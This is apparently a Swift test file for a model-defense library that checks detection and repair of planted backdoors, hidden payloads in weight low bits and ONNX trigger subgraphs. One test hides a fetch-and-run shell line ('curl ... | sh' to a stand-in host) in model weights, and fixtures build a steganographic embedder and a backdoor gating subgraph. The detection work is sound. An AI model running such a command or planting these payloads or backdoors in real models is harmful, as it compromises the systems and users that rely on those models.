import CordonCore
import CordonFormats
import CordonTensor
import CordonTestSupport
import Foundation
import Testing

@testable import CordonModelDefense

/// Backdoors that were planted are found, named and taken out; clean models are called clean.
@Suite("Inspection and repair of models")
struct InspectionTests {
    private func verdict(_ model: PlantedModel) throws -> ModelVerdict {
        var verdict = ModelVerdict()
        try ModelInspection().inspect(model.classifier, model.samples, &verdict) { _ in }
        return verdict
    }

    @Test("A planted patch is found with its target, drawn, and gone after a repair")
    func patch() throws {
        let model = try PlantedModel(target: 3, seed: 5)
        #expect(try model.success(model.classifier, target: 3) > 0.9)
        var found = ModelVerdict()
        let triggers = try ModelInspection().inspect(model.classifier, model.samples, &found) { _ in }
        #expect(found.level > .clean && found.confidence > 0.5)
        #expect(found.targets.map(\.index) == [3])
        let covering = try #require(found.triggers.first { $0.kind == .covering })
        #expect(covering.size < covering.naturalSize / 2 && covering.success > 0.8)
        // The picture changes pixels where the patch is.
        let picture = try #require(covering.picture)
        let change = picture.trigger.map { abs(Int($0) - 127) }
        let inside = (11..<16).flatMap { row in (11..<16).map { change[row * 16 + $0] } }.reduce(0, +)
        #expect(Double(inside) > 0.5 * Double(change.reduce(0, +)))
        let task = RepairTask(of: model.samples, [3], triggers, seed: 0, isCancelled: { false })
        let repaired = try TriggerUnlearning().run(model.classifier, task)
        #expect(try model.success(repaired, target: 3) < 0.1)
        #expect(try repaired.accuracy(on: model.samples) > model.classifier.accuracy(on: model.samples) - 0.03)
        // The model that was given is as it was.
        #expect(try model.success(model.classifier, target: 3) > 0.9)
    }

    @Test("A clean model is called clean", arguments: [11, 12] as [UInt64])
    func clean(seed: UInt64) throws {
        let found = try verdict(PlantedModel(target: nil, seed: seed))
        #expect(found.level == .clean && found.targets.isEmpty && found.confidence < 0.5)
    }

    @Test("The same seed gives the same scores")
    func seeded() throws {
        let model = try PlantedModel(target: nil, seed: 13)
        let (first, second) = (try verdict(model), try verdict(model))
        #expect(first.scores.map(\.classes) == second.scores.map(\.classes))
    }

    @Test("Without rows there is no verdict that a model is clean")
    func withoutRows() throws {
        let model = try PlantedModel(target: nil, seed: 14)
        var verdict = ModelVerdict()
        try ModelInspection().inspect(model.classifier, nil, &verdict) { _ in }
        #expect(verdict.level == .notEvaluated || verdict.level == .suspect)
        #expect(verdict.notEvaluated.contains { $0.check == "triggers" })
    }

    @Test("An inspection that is cancelled says so")
    func cancelled() throws {
        let model = try PlantedModel(target: nil, seed: 15)
        var inspection = ModelInspection()
        inspection.isCancelled = { true }
        var verdict = ModelVerdict()
        #expect { try inspection.inspect(model.classifier, model.samples, &verdict) { _ in } } throws: {
            ($0 as? TensorFailure)?.code == .cancelled
        }
    }

    @Test("Every method gives a model that still runs and keeps what it can", arguments: RepairMethod.allCases)
    func methods(method: RepairMethod) throws {
        let model = try PlantedModel(target: 2, seed: 21)
        let task = RepairTask(of: model.samples, [], [], seed: 0, isCancelled: { false })
        let repaired = try ModelRepair.strategy(method).run(model.classifier, task)
        #expect(try repaired.accuracy(on: model.samples) > 0.7)
        // What is written can be read again and says the same.
        let again = try Graph(ByteView(copying: repaired.graph.onnx()))
        let same = try repaired.replacing(graph: again).predictions(model.samples.rows)
        #expect(try same == repaired.predictions(model.samples.rows))
    }
}

/// What a model's file shows without running it.
@Suite("Static inspection of models")
struct StaticInspectionTests {
    private func hidden(_ payload: [UInt8], bits: Int) throws -> Graph {
        var graph = try GraphBuilder.perceptron(features: 64, hidden: [256], classes: 4, seed: 3)
        let name = graph.weightNames[0]
        let weights = try graph.weight(name)
        var numbers = try weights.floats()
        var place = 100
        for byte in payload {
            for part in 0..<(8 / bits) {
                let low = UInt32(byte >> UInt8(part * bits)) & UInt32((1 << bits) - 1)
                numbers[place] = Float(bitPattern: numbers[place].bitPattern & ~UInt32((1 << bits) - 1) | low)
                place += 1
            }
        }
        try graph.setWeight(name, Tensor(numbers, shape: weights.shape))
        return graph
    }

    @Test("Content in low bits of weights is found, whatever their number", arguments: [8, 4, 2, 1])
    func payload(bits: Int) throws {
        let script = Array(
            "#!/bin/sh\ncurl -s https://example.invalid/a | sh # twelve monkeys walked over the hills\n".utf8)
        let graph = try hidden(script, bits: bits)
        let remarks = StaticInspection(graph).remarks
        #expect(
            remarks.contains { $0.kind == .hiddenPayload && $0.level == .suspect && $0.description.contains("text") })
    }

    @Test("Weights as they come hold nothing")
    func nothing() throws {
        let graph = try GraphBuilder.residualNetwork(channels: 3, height: 32, width: 32, classes: 10, seed: 4)
        let remarks = StaticInspection(graph).remarks
        #expect(remarks.allSatisfy { $0.level == .clean })
    }

    @Test("An input that is compared beside the layers is a trigger without weights")
    func subgraph() throws {
        let plain = try GraphBuilder.perceptron(features: 8, hidden: [8], classes: 3, seed: 6)
        #expect(TriggerSubgraph.search(plain).isEmpty)
        var program = plain.program
        let limit = ONNXConstant(
            name: "limit", type: ElementCode.float32, shape: [1], data: .bytes(ByteView(copying: [0, 0, 0x80, 0x3F])))
        let other = ONNXConstant(
            name: "other", type: ElementCode.float32, shape: [3],
            data: .bytes(ByteView(copying: [UInt8](repeating: 0, count: 12))))
        program.graph.constants += [limit, other]
        let last = program.graph.nodes.count - 1
        let scores = program.graph.nodes[last].inputs[0]
        program.graph.nodes.removeLast()
        program.graph.nodes += [
            ONNXNode(
                "ReduceSum", name: "sum", inputs: ["input"], outputs: ["sum"], attributes: ["keepdims": .integer(1)]),
            ONNXNode("Greater", name: "gate", inputs: ["sum", "limit"], outputs: ["gate"]),
            ONNXNode("Where", name: "switch", inputs: ["gate", "other", scores], outputs: ["output"]),
        ]
        let remarks = StaticInspection(try Graph(program)).remarks
        let remark = try #require(remarks.first { $0.kind == .triggerSubgraph })
        #expect(remark.level == .backdoored && remark.description.contains("(Greater)"))
    }

    @Test("Weights that are no numbers are told")
    func notNumbers() throws {
        var graph = try GraphBuilder.perceptron(features: 8, hidden: [8], classes: 3, seed: 6)
        let name = graph.weightNames[0]
        var numbers = try graph.weight(name).floats()
        numbers[5] = .nan
        try graph.setWeight(name, Tensor(numbers, shape: graph.weight(name).shape))
        #expect(StaticInspection(graph).remarks.contains { $0.kind == .weights && $0.level == .suspect })
    }
}
